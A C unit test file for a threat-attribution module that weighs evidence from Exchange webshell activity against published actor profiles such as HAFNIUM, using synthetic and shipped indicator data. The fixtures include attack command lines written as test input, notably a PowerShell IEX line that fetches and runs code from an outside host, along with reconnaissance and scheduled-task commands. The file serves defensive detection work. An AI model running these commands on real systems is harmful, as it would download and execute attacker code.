/* Threads beside published profiles: small tables made here for each weight, and rows against the
 * shipped ones. */
#include "check.h"

#include "assess/profile.h"
#include "base/mem.h"
#include "rule/builtin.h"

#define OWA "%ExchangeInstallPath%FrontEnd\\\\HttpProxy\\\\owa\\\\auth\\\\"

#define SHA(digit)                                                                                 \
    digit digit digit digit digit digit digit digit digit digit digit digit digit digit digit digit

static const char tables[] =
    "{\"as_of\":\"today\",\"caveats\":[\"names recur\"],\"clusters\":["
    "{\"id\":\"one\",\"name\":\"One\",\"first_seen\":\"2021-03-01\",\"confidence\":\"high\","
    "\"techniques\":[\"T1190\",\"T1505.003\"],\"ips\":[\"192.0.2.10\",\"192.0.2.11\"],"
    "\"domains\":[\"one.example\",\"both.example\"],"
    "\"webshell_paths\":[\"" OWA "ebbtide.aspx\"],\"filenames\":[\"ebbtide.aspx\",\"many.aspx\"],"
    "\"user_agents\":[\"kit/1.0\"],\"hashes\":[{\"sha256\":\"" SHA(
        "abcd") "\",\"label\":\"x\"},"
                "{\"md5\":\"" SHA(
                    "12") "\",\"label\":\"Mimikatz 2.2\"}],"
                          "\"recalled\":{\"ips\":[\"192.0.2.19 (possibly "
                          "unrelated)\"],\"files\":[\"oldkit.dll\"]}},"
                          "{\"id\":\"two\",\"name\":\"Two\",\"first_seen\":\"2021-03\","
                          "\"confidence\":\"high\","
                          "\"ips\":[\"192.0.2.11\",\"192.0.2.20\"],\"domains\":[\"both.example\"],"
                          "\"filenames\":[\"many.aspx\"]},"
                          "{\"id\":\"warned\",\"name\":\"Warned\",\"first_seen\":\"2021-03-01\","
                          "\"confidence\":\"high\","
                          "\"ips\":[\"192.0.2.30\"]},"
                          "{\"id\":\"list\",\"name\":\"List\",\"first_seen\":\"2021-03-01\","
                          "\"confidence\":\"high\","
                          "\"ips\":[\"192.0.2.40\"],\"hashes\":[{\"sha256\":\"" SHA(
                              "abcd") "\"}]},"
                                      "{\"id\":\"poor\",\"name\":\"Poor\",\"first_seen\":\"2021-03-"
                                      "01\","
                                      "\"confidence\":\"low: "
                                      "anything\",\"ips\":[\"192.0.2.50\"]}]}";

static const char marks[] =
    "{\"lists\":[\"list\"],\"common_tools\":[\"mimikatz\"],\"plain_names\":[\"shell\"],\"marks\":["
    "{\"clusters\":[\"one\"],\"text\":[\"\\\\Public\\\\Tide\\\\\"],\"says\":\"the folder Tide\"},"
    "{\"clusters\":[\"one\",\"two\"],\"text\":[\"/tn Ebb\"],\"says\":\"the task Ebb\"}],"
    "\"qualified\":[{\"cluster\":\"warned\",\"what\":\"ips\",\"weight\":\"medium\",\"why\":\"all "
    "and sundry\"}]}";

struct case_row {
    const char *client, *agent, *page, *field, *text;
    const char *when; /* the time of the activity; NULL: 2021-03-03 */
    const char *name; /* of the first profile told; NULL: all together */
    enum profile_statement statement;
    const char *says; /* stands somewhere in why */
};

static compared_list compare(const struct profiles *profiles, const struct case_row *row,
                             struct arena *arena)
{
    struct scan_field field = {str_from(row->field), str_from(row->text)};
    struct scan_event event = {.fields = &field, .n_fields = row->field != NULL};
    static str tags[] = {STR_INIT("attack.t1190")};
    const struct sigma_rule rule = {.tags = tags, .n_tags = 1};
    const struct scan_hit hit = {.event = &event, .rule = &rule};
    struct finding finding = {.hit = &hit};
    struct findings findings = {0};
    findings.all.p = &finding;
    findings.all.n = 1;
    const u32 index = 0;
    const str client = str_from(row->client), agent = str_from(row->agent),
              page = str_from(row->page);
    i64 time;
    assert_true(time_parse(str_from(row->when ? row->when : "2021-03-03"), &time));
    const struct activity activity = {
        .findings = &index,
        .n_findings = 1,
        .clients = &client,
        .n_clients = client.n > 0,
        .agents = &agent,
        .n_agents = agent.n > 0,
        .webshells = &page,
        .n_webshells = page.n > 0,
        .first = time,
        .last = time,
        .one = true,
    };
    compared_list out = {0};
    profiles_compare(profiles, &findings, &activity, arena, &out);
    return out;
}

static void check_row(const struct profiles *profiles, const struct case_row *row, size_t number)
{
    struct arena arena = {0};
    compared_list all = compare(profiles, row, &arena);
    bool said = false;
    assert_true(all.n > 0);
    VEC_EACH (&all.p[0].why, why)
        said |= str_find(*why, str_from(row->says)) != SIZE_MAX;
    if (all.p[0].statement != row->statement || !said ||
        (row->name && !str_eq(all.p[0].name, str_from(row->name)))) {
        VEC_EACH (&all.p[0].why, why)
            print_message("  %.*s\n", STR_ARG(*why));
        fail_msg("row %zu: %.*s: %s, said %d", number, STR_ARG(all.p[0].name),
                 profile_statement_text(all.p[0].statement), said);
    }
    compared_release(&all);
    arena_release(&arena);
}

static void check_rows(str clusters, str ours, const struct case_row *rows, size_t n)
{
    struct profiles profiles;
    struct err err;
    assert_int_equal(profiles_load(clusters, ours, &profiles, &err), OK);
    for (size_t i = 0; i < n; i++)
        check_row(&profiles, &rows[i], i);
    profiles_release(&profiles);
}

#define PATH                    "C:\\E\\FrontEnd\\HttpProxy\\owa\\auth\\"
#define MATCHES(name, says)     NULL, name, PROFILE_MATCHES, says
#define RESEMBLES(name, says)   NULL, name, PROFILE_RESEMBLES, says
#define NEW(says)               NULL, NULL, PROFILE_NEW, says
#define CANNOT(says)            NULL, NULL, PROFILE_CANNOT_SAY, says
#define ON(when, name, s, says) when, name, PROFILE_##s, says

static void test_weights(void **state)
{
    (void)state;
    static const struct case_row rows[] = {
        /* strong */
        {"192.0.2.10", 0, 0, 0, 0, MATCHES("One", "address 192.0.2.10 agrees")},
        {0, 0, 0, "Hashes", "SHA256=" SHA("ABCD"), MATCHES("One", "speaks strongly")},
        {0, 0, 0, "CommandLine", "curl http://cdn.one.example/x",
         MATCHES("One", "domain one.example")},
        /* … but not of a list, long after, long before, warned of, recalled, of low confidence */
        {"192.0.2.40", 0, 0, 0, 0, RESEMBLES("List", "no group")},
        {"192.0.2.10", 0, 0, 0, 0, ON("2023-01-01", NULL, CANNOT_SAY, "more than a year after")},
        {"192.0.2.10", 0, 0, 0, 0, ON("2020-06-01", NULL, CANNOT_SAY, "more than a month before")},
        {0, 0, 0, "Hashes", "SHA256=" SHA("abcd"),
         ON("2023-06-01", "One", MATCHES, "2 years or more")},
        {0, 0, 0, "Hashes", "SHA256=" SHA("abcd"),
         ON("2020-06-01", "One", MATCHES, "speaks against it")},
        {"192.0.2.30", 0, 0, 0, 0, RESEMBLES("Warned", "all and sundry")},
        {"192.0.2.19", 0, 0, 0, 0, CANNOT("recalled from memory")},
        {"192.0.2.50", 0, 0, 0, 0, CANNOT("of low confidence")},
        {0, 0, 0, "Hashes", "MD5=" SHA("12"), CANNOT("a tool that many use")},
        /* medium: what two have, an artefact of one */
        {"192.0.2.11", 0, 0, 0, 0, RESEMBLES("One", "2 published entries have it")},
        {0, 0, 0, "CommandLine", "ping both.example",
         RESEMBLES("One", "2 published entries have it")},
        {0, 0, 0, "CommandLine", "c:\\users\\public\\tide\\a.exe",
         RESEMBLES("One", "the folder Tide")},
        {0, 0, 0, "cs-uri-query", "c:\\users\\public\\tide\\a.exe", CANNOT("could have agreed")},
        {0, 0, 0, "CommandLine", "schtasks /TN ebb", CANNOT("the task Ebb")},
        /* weak: names, agents, techniques */
        {0, 0, PATH "ebbtide.aspx", 0, 0,
         CANNOT("path frontend\\httpproxy\\owa\\auth\\ebbtide.aspx")},
        {0, 0, "/owa/auth/ebbtide.aspx", 0, 0, CANNOT("path frontend")},
        {0, 0, "C:\\inetpub\\wwwroot\\ebbtide.aspx", 0, 0, CANNOT("file name ebbtide.aspx")},
        {0, "kit/1.0", PATH "many.aspx", 0, 0, CANNOT("file name many.aspx")},
        {"192.0.2.99", "kit/1.0", PATH "many.aspx", 0, 0, NEW("user agent kit/1.0")},
        {"192.0.2.99", "kit/1.0", PATH "ebbtide.aspx", "CommandLine", "whoami /all",
         NEW("1 public address")},
        {"192.0.2.10", 0, PATH "ebbtide.aspx", 0, 0, MATCHES("One", "1 technique agrees")},
        {"192.0.2.10", 0, PATH "ebbtide.aspx", 0, 0,
         MATCHES("One", "ebbtide.aspx agrees; that speaks for it: names of pages recur")},
        {"192.0.2.10", 0, "C:\\inetpub\\ebbtide.aspx", 0, 0,
         MATCHES("One", "file name ebbtide.aspx agrees; that says little")},
        /* nothing */
        {"10.0.0.1", 0, PATH "other.aspx", 0, 0, CANNOT("0 public addresses, 1 page")},
        {0, 0, 0, 0, 0, CANNOT("0 public addresses")},
        {"192.0.2.99", 0, PATH "other.aspx", 0, 0, NEW("1 public address, 1 page")},
    };
    check_rows(str_from(tables), str_from(marks), rows, COUNT(rows));
}

static void test_shipped(void **state)
{
    (void)state;
    static const struct case_row rows[] = {
        {0, 0, 0, "Hashes", "SHA1=30DD3076EC9ABB13C15053234C436406B88FB2B9",
         MATCHES("Calypso", "hash")},
        {"34.90.207.23", 0, 0, 0, 0, MATCHES("LuckyMouse", "agrees")},
        {"5.254.43.18", 0, 0, 0, 0, RESEMBLES("HAFNIUM", "several actors shared them")},
        {"185.220.101.204", 0, 0, 0, 0, CANNOT("everybody's")},
        {"13.231.174.2", 0, 0, 0, 0, CANNOT("low confidence")},
        {"86.105.18.116", 0, 0, 0, 0, RESEMBLES("\"Opera\" Cobalt Strike", "2 published entries")},
        {"192.0.2.1", 0, PATH "help.aspx", 0, 0, NEW("file name help.aspx")},
        {0, "python-requests/2.25.1", PATH "shell.aspx", 0, 0, CANNOT("shell.aspx")},
        {0, 0, 0, "CommandLine", "powershell IEX http://p.estonine.com/p?e",
         RESEMBLES(NULL, "p.estonine.com")},
        {"130.255.189.21", 0, 0, 0, 0, MATCHES("HelseCERT case 2021-03-03", "agrees")},
    };
    check_rows(builtin_find("data/clusters.json"), builtin_find("data/profile_marks.json"), rows,
               COUNT(rows));
}

static void test_guessable(void **state)
{
    (void)state;
    struct profiles profiles;
    struct err err;
    assert_int_equal(profiles_load(str_from(tables), str_from(marks), &profiles, &err), OK);
    assert_true(profiles_guessable(&profiles, S("C:\\x\\Many.aspx")));
    assert_true(profiles_guessable(&profiles, S("/owa/auth/shell.aspx")));
    assert_true(profiles_guessable(&profiles, S("/owa/auth/x.aspx")));
    assert_false(profiles_guessable(&profiles, S("/owa/auth/tidelog.aspx")));
    assert_false(profiles_guessable(NULL, S("shellfish.aspx")));
    assert_true(profiles_has_agent(&profiles, S("kit/1.0")));
    assert_false(profiles_has_agent(NULL, S("kit/1.0")));
    assert_int_equal(profiles.caveats.n, 1);
    profiles_release(&profiles);
    assert_int_equal(profiles_load(S("{"), S("{}"), &profiles, &err), ERR_SYNTAX);
}

int suite_profile(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_weights),
        cmocka_unit_test(test_shipped),
        cmocka_unit_test(test_guessable),
    };
    return cmocka_run_group_tests_name("profile", tests, NULL, NULL);
}
